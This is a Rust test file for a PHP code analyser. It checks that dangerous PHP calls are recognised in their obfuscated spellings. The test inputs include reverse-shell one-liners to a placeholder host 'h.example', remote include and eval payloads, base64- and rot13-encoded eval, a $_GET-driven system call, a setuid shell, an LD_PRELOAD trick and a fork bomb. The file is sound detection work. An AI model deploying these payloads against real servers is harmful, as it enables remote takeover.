//! PHP.

use super::check_in;
use aegish_code_parsers::language::Language::Php;

#[test]
fn commands_are_found_in_every_spelling() {
    check_in(
        Php,
        &[
            ("system('id');", &["shell id"]),
            ("echo shell_exec(\"ls -l\");", &["shell ls -l"]),
            ("echo `id`;", &["shell id"]),
            ("@passthru('id');", &["shell id"]),
            ("SYSTEM('id');", &["shell id"]),
            ("\\system('id');", &["shell id"]),
            ("$r=array(); exec('id', $r); print(join(\"\\n\",$r));", &["shell id"]),
            ("$h=@popen('id','r');", &["shell id"]),
            ("pcntl_exec('/bin/sh', ['-p']);", &["argv /bin/sh|-p"]),
            ("$f='sys'.'tem'; $f('id');", &["shell id"]),
            ("call_user_func('system','id');", &["shell id"]),
            ("array_map('system', ['id']);", &["shell id"]),
            ("('sys'.'tem')('id');", &["shell id"]),
            ("eval(base64_decode('ZWNobyAxOw=='));", &["eval php echo 1;"]),
            ("eval(gzinflate(base64_decode('S03OyFcwtAYA')));", &["eval php echo 1;"]),
            ("eval(str_rot13('rpub 1;'));", &["eval php echo 1;"]),
            ("system(strrev('di'));", &["shell id"]),
            ("$c='id'; system(\"$c -u\");", &["shell id -u"]),
            ("$c='id'; system(\"{$c} -u\");", &["shell id -u"]),
            ("system($_GET['c']);", &["received"]),
            ("<?php system('id'); ?>", &["shell id"]),
            ("<html><?= `id` ?></html>", &["shell id"]),
            ("include '/srv/x.php';", &["script php /srv/x.php"]),
            ("include('http://h.example/x');", &["fetch http://h.example/x", "received"]),
            ("system(getenv('TARGET'));", &["shell /srv/data.bin"]),
            ("system($argv[1]);", &["shell first-arg"]),
            ("posix_setuid(0); system('/bin/sh -i');", &["user 0", "shell /bin/sh -i"]),
            ("function r($c) { system($c); } r('id');", &["shell id"]),
            ("foreach (['id','who'] as $c) system($c);", &["shell {id|who}"]),
            ("system(<<<X\necho hi\nX);", &["shell echo hi\n"]),
            ("$x=create_function('','return 1;');", &["eval php return 1;"]),
            ("while(true) { pcntl_fork(); }", &["exhaust"]),
        ],
    );
}

#[test]
fn files_and_connections() {
    check_in(
        Php,
        &[
            ("readfile('/etc/hosts');", &["read /etc/hosts"]),
            ("echo file_get_contents(\"/etc/hosts\");", &["read /etc/hosts"]),
            ("file_put_contents('/tmp/x', 'DATA');", &["write /tmp/x <- DATA"]),
            ("file_put_contents('/tmp/x', 'DATA', FILE_APPEND);", &["append /tmp/x <- DATA"]),
            ("$f=fopen('/tmp/x','w'); fwrite($f,'DATA');", &["write /tmp/x <- DATA"]),
            ("unlink('/tmp/x'); chmod('/tmp/y', 04755);", &["delete /tmp/x", "mode 4755 /tmp/y"]),
            (
                "$c=file_get_contents('http://h.example/x'); file_put_contents('/tmp/x', $c);",
                &["fetch http://h.example/x", "write /tmp/x <- ‹received›"],
            ),
            (
                "eval(file_get_contents('http://h.example/x'));",
                &["fetch http://h.example/x", "received"],
            ),
            (
                "$sock=fsockopen('h.example',99);exec('/bin/sh -i <&3 >&3 2>&3');",
                &["connect h.example 99", "attach", "shell /bin/sh -i <&3 >&3 2>&3"],
            ),
            (
                "$s=fsockopen('h.example',99);proc_open('sh',[$s,$s,$s],$p);",
                &["connect h.example 99", "attach", "shell sh"],
            ),
            (
                "$s=fsockopen('tcp://h.example',99); while($c=fgets($s)) { echo shell_exec($c); }",
                &["connect tcp://h.example 99", "received"],
            ),
            ("$s=stream_socket_client('tcp://h.example:99');", &["connect h.example 99"]),
            (
                "putenv('LD_PRELOAD=/tmp/x.so'); mail('a','b','c');",
                &["setenv LD_PRELOAD=/tmp/x.so"],
            ),
        ],
    );
}

#[test]
fn harmless_look_alikes_give_nothing() {
    check_in(
        Php,
        &[
            ("echo 'system(1)';", &["print system(1)"]),
            ("// system('x')\n# exec('y')\n/* eval(1) */ echo 1;", &["print 1"]),
            ("echo PHP_VERSION;", &[]),
            ("phpinfo();", &[]),
            ("$db->exec('SELECT 1');", &[]),
            ("$pdo = new PDO('sqlite::memory:'); $pdo->exec(\"CREATE TABLE x(y)\");", &[]),
            ("echo json_encode(['system'=>1]);", &[]),
            ("echo date('Y-m-d');", &[]),
            ("<b>system('x')</b>", &[]),
            ("echo base64_decode('aGVsbG8=');", &["print hello"]),
        ],
    );
}

#[test]
fn names_are_followed_through_classes_maps_and_directories() {
    check_in(
        Php,
        &[
            ("chdir('/srv');readfile('data');", &["chdir /srv", "read /srv/data"]),
            ("include '/srv/data';", &["script php /srv/data"]),
            (
                "class A{public $p='/srv/data';function __destruct(){readfile($this->p);}}new A;",
                &["read /srv/data"],
            ),
            ("extract(['p'=>'/srv/data']);readfile($p);", &["read /srv/data"]),
            (
                "$d=new DirectoryIterator('/srv');foreach($d as $f)readfile($f->getPathname());",
                &["list /srv", "read /srv/*"],
            ),
            ("symlink('/srv','e');", &["link /srv <- e"]),
            ("array_filter(['id'],'system');", &["shell id"]),
            ("(new ReflectionFunction('system'))->invoke('id');", &["shell id"]),
            ("$x = function($c) { return `$c`; }; $x('id');", &["shell id"]),
            ("assert($x > 0);", &[]),
            ("array_map('unlink', glob('/srv/*'));", &["list /srv/*", "delete /srv/*"]),
        ],
    );
}
